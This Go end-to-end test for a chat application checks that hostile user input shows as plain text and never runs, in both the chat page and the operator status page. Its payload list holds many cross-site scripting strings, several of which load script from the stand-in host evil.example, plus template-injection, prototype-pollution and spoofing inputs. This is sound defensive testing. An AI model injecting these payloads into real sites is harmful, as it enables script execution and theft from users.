package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"google.golang.org/protobuf/proto"

	wirev1 "github.com/parley-im/parley/proto/wire/v1"
	"github.com/parley-im/parley/services/e2e/internal/ask"
	"github.com/parley-im/parley/services/e2e/internal/client"
	"github.com/parley-im/parley/services/e2e/internal/stack"
	"github.com/parley-im/parley/services/gateway"
	"github.com/parley-im/parley/services/web"
)

// hostileTexts are what a page may be fed with to make it do something, one or
// two of each kind. Each that runs sets hacked, or opens a dialog.
var hostileTexts = []string{
	// Elements that run something.
	`<script>hacked=1</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>hacked=1</scr</script>ipt>`,
	`<script type=module>import "//evil.example/x.js"</script>`, `<script>hacked=1//`, `<ScRiPt/x>hacked=1</sCrIpT >`,
	`<img src=x onerror=hacked=1>`, `<img/src='x'/onerror='hacked=1'>`, `<img src=x:x onerror&#61;hacked=1>`, `<body onload=hacked=1>`,
	`<input autofocus onfocus=hacked=1>`, `<details open ontoggle=hacked=1>`, `<video><source onerror=hacked=1>`, `<audio src onerror=hacked=1>`,
	`<marquee onstart=hacked=1>x</marquee>`, `<p style=animation-name:x onanimationstart=hacked=1>`, `<iframe src=javascript:parent.hacked=1>`,
	`<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`, `<object data=javascript:hacked=1>`, `<embed src=data:text/html,<script>hacked=1</script>>`,
	`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example>`,
	`<form action=//evil.example><button>go`, `<template><script>hacked=1</script></template>`, `<dialog open onclose=hacked=1>`,
	// SVG and MathML, whose rules of parsing are others.
	`<svg onload=hacked=1>`, `<svg><script>hacked=1</script></svg>`, `<svg><animate onbegin=hacked=1 attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=hacked=1>#x">`, `<svg><foreignObject><body onload=hacked=1>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>`, `<math href=javascript:hacked=1>x</math>`,
	`<svg></p><style><a id="</style><img src=x onerror=hacked=1>">`,
	// Out of what a text may have been put into.
	`"><img src=x onerror=hacked=1>`, `' onmouseover='hacked=1`, `" autofocus onfocus="hacked=1`, "` onerror=hacked=1 `", `</title><script>hacked=1</script>`,
	`</textarea><script>hacked=1</script>`, `</style><script>hacked=1</script>`, `--><script>hacked=1</script>`, `]]><script>hacked=1</script>`,
	`</script><script>hacked=1</script>`, `';hacked=1//`, `";hacked=1//`, "`;hacked=1//", `\";hacked=1//`, `\u003cscript\u003ehacked=1\u003c/script\u003e`,
	`*/hacked=1/*`, `{"type":"chat","x":"</script>"}`, `"},{"id":"x","name":"y`, `%3Cscript%3Ehacked=1%3C/script%3E`, `&lt;script&gt;hacked=1&lt;/script&gt;`,
	`&#60;script&#62;hacked=1&#60;/script&#62;`, "\u2028hacked=1//", `<!--<img src=x onerror=hacked=1>-->`, `<![CDATA[<script>hacked=1</script>]]>`,
	// Templates and what scripts build of texts.
	`{{constructor.constructor("hacked=1")()}}`, `${hacked=1}`, `#{hacked=1}`, `<%= hacked=1 %>`, `{user}{n}{room}`, `$& $' $1 $$`, `%s %n %x`,
	`__proto__`, `constructor`, `toString`, `hasOwnProperty`, `[object Object]`, `undefined`, `NaN`, `-0`, `1e999`,
	// Addresses.
	`javascript:hacked=1`, `JaVaScRiPt:hacked=1`, "java\u200bscript:hacked=1", ` javascript:hacked=1`, `data:text/html,<script>hacked=1</script>`,
	`vbscript:hacked=1`, `http://javascript:hacked=1@evil.example`, `https://bank.example@evil.example/`, `https://evil.example/"onmouseover="hacked=1`,
	"https://evil.example/\u202egnp.exe", `blob:https://evil.example/x`, `//evil.example`, `https://[::1]:99999/`, `http://%00@x/`, `view-source:javascript:hacked=1`,
	// Characters that look like others, like none, or turn the line around.
	"\u202ecod.exe", "\u2066\u202eabc", "a\u200d\u200c\u2060b", "\ufeffx", "\u0430dmin", "ａdmin", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033dalgo", "👩‍👩‍👧‍👦🏴‍☠️", "مرحبا <b>", "\u115f\u3164x", "\U000e0041\U000e0042x", "ﷺ﷽", "\ufffd\uffff\U0010ffffx",
	// Too long for their places.
	strings.Repeat("W", 300), strings.Repeat("<b>", 100), strings.Repeat("\u0301", 200) + "x", strings.Repeat("🏳️‍🌈", 50), "https://evil.example/" + strings.Repeat("a", 300),
}

// cut gives the beginning of a text.
func cut(text string, characters int) string {
	runes := []rune(text)
	return string(runes[:min(len(runes), characters)])
}

// sayingTo sends a text through everything that a user can write, from a user
// who is called so, in a room that is called so, and gives that name.
func sayingTo(t *testing.T, s *stack.Stack, room string, n int, text string) (username string) {
	t.Helper()
	c := client.Dial(t, s.URLs[0], client.Options{})
	roles := []string{}
	if n%10 == 0 {
		roles = append(roles, "admin")
	}
	username = c.SignIn(signHS256(t, secret, claims{"sub": fmt.Sprint(n, cut(text, 20)), "username": cut(text, 31), "roles": roles})).User.Username
	own := fmt.Sprint("hostile-", n)
	made := c.Ask(ask.CreateRoom(&wirev1.CreateRoom{RoomId: own, Name: proto.String(cut(text, 128)), Topic: proto.String(cut(text, 256))}))
	if !made.GetRoomCreated().GetSuccess() {
		t.Errorf("a room called %q: %v", text, made)
	}
	c.Join(own)
	c.Join(room)
	c.Ask(ask.SetStatus("busy", cut(text, 128)))
	data, err := json.Marshal(map[string]any{"replyTo": text, text: text, "__proto__": map[string]any{"hacked": 1}})
	if err != nil {
		t.Fatal(err)
	}
	f := ask.ChatMessage(&wirev1.SendMessage{RoomId: room, Content: &text, Data: data})
	ack := c.Ask(f).GetAck()
	c.Ask(ask.EditMessage(&wirev1.EditMessage{RoomId: room, Target: ack.GetSeq(), Content: &text}))
	c.Send(ask.Signal(&wirev1.SendSignal{RoomId: room, Event: "typing", Data: data}))
	if n%10 == 0 {
		c.Ask(ask.AdminBroadcast(text))
	}
	return username
}

// TestBrowserHostileTexts has the page, and the operator's, show what was
// written to harm them: all of it is text, to the letter, and nothing of it runs,
// loads, or leads anywhere.
func TestBrowserHostileTexts(t *testing.T) {
	browser := startBrowser(t)
	s := stack.Start(t, stack.Options{Gateway: func(o *gateway.Options) {
		o.JWTSecret = secret
		o.RateLimit, o.RateBurst = 1e6, 1e6
	}})
	const room = "square"
	alice := openPage(t, browser, "alice", s.URLs[0]+`/?q=<script>hacked=1</script>&lang=<svg onload=hacked=1>#<img src=x onerror=hacked=1>`, desktop)
	alice.signIn("alice")
	alice.createRoom(room)
	var names []string
	for n, text := range hostileTexts {
		names = append(names, sayingTo(t, s, room, n, text))
	}
	alice.reads(hostileTexts...)
	if got := alice.texts(".message[data-seq] .author"); !slices.Equal(got, names) {
		t.Errorf("the authors are %q, want %q", got, names)
	}
	alice.until("those who typed are forgotten, or named", `document.querySelector("#typing").children.length === 0`)
	admins := 0
	for n := range hostileTexts {
		if n%10 == 0 {
			admins++
		}
	}
	alice.until("the administrator's words are shown", fmt.Sprintf(`document.querySelectorAll("#notices .admin").length === Math.min(4, %d)`, admins))
	// A page that is loaded anew gets all of it from the lists.
	bob := openPage(t, browser, "bob", s.URLs[0], desktop)
	bob.signIn("bob")
	bob.room(room)
	bob.until("the members are listed with what they say of themselves", fmt.Sprintf(
		`((have) => %s.filter((name) => !have.has(name)).length === 0 || void document.querySelector("#more-members:not([hidden])")?.click())(new Set([...document.querySelectorAll("#member-list .name")].map((e) => e.textContent)))`, marshal(t, names)))
	for n := 0; n < len(hostileTexts); n += 7 {
		if strings.TrimLeft(hostileTexts[n], " \u2028\ufeff") != hostileTexts[n] {
			continue // a name that begins with a space is not found by typing it
		}
		id := fmt.Sprint("hostile-", n)
		bob.enter("#room-filter", cut(hostileTexts[n], 128))
		bob.until("the room is found by its name", fmt.Sprintf(`[...document.querySelectorAll("#other-rooms [data-room=%s] .name")].some((e) => e.textContent === %s)`, id, marshal(t, cut(hostileTexts[n], 128))))
		value[any](bob, fmt.Sprintf(`document.querySelector("[data-room=%s]").click(), null`, id))
		bob.until("it is shown by its name and topic", fmt.Sprintf(`document.querySelector("#room-title").textContent === %s && document.querySelector("#room-topic").textContent === %s`,
			marshal(t, cut(hostileTexts[n], 128)), marshal(t, cut(hostileTexts[n], 256))))
	}
	for _, p := range []*page{alice, bob} {
		if wide := p.tooWide(); len(wide) != 0 {
			t.Errorf("%s: wider than their places: %q", p.name, wide)
		}
		for _, address := range value[[]string](p, `[...document.querySelectorAll("a.external")].map((e) => e.textContent + " " + e.href)`) {
			if text, href, _ := strings.Cut(address, " "); !strings.HasPrefix(href, "http") || strings.ContainsAny(text, "\u202e@") {
				t.Errorf("%s: a link %q to %q", p.name, text, href)
			}
		}
		p.unharmed()
	}

	status := openPage(t, browser, "operator", hostileStatus(t), desktop)
	status.until("the rooms are shown", fmt.Sprintf(`document.querySelectorAll("#rooms tr").length === %d`, len(hostileTexts)))
	for _, list := range []string{"#rooms td:first-child", "#gateways td:first-child", "#reasons li"} {
		if got := status.texts(list); !slices.Equal(got, hostileTexts) {
			t.Errorf("%s shows %q, want %q", list, got, hostileTexts)
		}
	}
	status.unharmed()
}

// unharmed checks that nothing of what was shown has run.
func (p *page) unharmed() {
	p.t.Helper()
	if value[bool](p, `"hacked" in window || "hacked" in {}`) {
		p.t.Errorf("%s: a text was executed", p.name)
	}
	p.harmless()
}

// marshal writes a value as a script has it.
func marshal(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// hostileStatus serves the operator's page about a gateway of which everything
// is called as it should not be.
func hostileStatus(t *testing.T) string {
	t.Helper()
	now := gateway.Status{Gateway: hostileTexts[0], Closes: []gateway.CloseCount{}}
	now.Health.Status, now.Health.Reasons = hostileTexts[6], hostileTexts
	for n, text := range hostileTexts {
		now.Rooms = append(now.Rooms, gateway.RoomTraffic{ID: text, Members: n, PerMinute: 1})
		now.Gateways = append(now.Gateways, gateway.GatewayLoad{ID: text})
	}
	server := httptest.NewServer(http.Handler(web.StatusPage(func(context.Context) (any, error) { return now, nil })))
	t.Cleanup(server.Close)
	return server.URL
}
